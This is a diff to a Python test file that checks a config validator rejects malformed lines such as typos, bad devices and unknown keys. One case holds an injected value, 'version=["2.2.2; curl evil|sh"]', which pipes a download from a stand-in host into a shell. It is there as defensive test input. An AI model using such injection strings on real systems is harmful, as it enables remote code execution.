@@ -116,7 +116,10 @@ def test_a_file_that_does_not_fit_is_one_line_that_names_the_place(tmp_path: Pat
     ("line", "message"),
     [
         ('framework=["torhc"]\nversion=["1.0"]\nkeras=["3.8.0"]\ndevice=["cpu"]', "did you mean 'torch'"),
-        ('framework=["torch"]\nversion=["2.2.2; curl evil|sh"]\nkeras=["3.8.0"]\ndevice=["cpu"]', "no release number"),
+        (
+            'framework=["torch"]\nversion=["2.2.2; curl evil|sh"]\nkeras=["3.8.0"]\ndevice=["cpu"]',
+            "not a release number",
+        ),
         ('framework=["torch"]\nversion=["1.0"]\nkeras=["3.8.0"]\ndevice=["gpu"]', "unknown device 'gpu'"),
         ('framework=["torch"]\nversion=["1.0"]\nkeras=["3.8.0"]\ndevice=["cpu"]\nvariant=["x"]', "unknown variant"),
         ('framework=["torch"]\nversion=["1.0"]\nkeras=["3.8.0"]\ndevice=["cpu"]\npython=["2.7"]', "python '2.7'"),
